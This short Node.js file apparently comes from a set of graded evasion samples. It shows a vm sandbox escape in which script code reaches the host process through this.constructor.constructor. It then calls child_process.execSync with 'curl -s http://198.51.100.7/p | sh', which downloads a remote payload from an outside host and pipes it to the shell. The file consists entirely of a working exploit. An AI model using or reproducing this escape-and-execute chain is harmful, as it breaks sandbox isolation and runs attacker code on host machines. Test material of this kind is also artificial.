// evasion: node vm "sandbox" escape: a literal script reaches the host process through this.constructor.constructor
// grade: very hard; does: shell
const vm = require('vm');

const script = `
  const host = this.constructor.constructor('return process')();
  host.mainModule.require('child_process').execSync('curl -s http://198.51.100.7/p | sh', { stdio: 'inherit' });
`;
vm.runInNewContext(script, {});
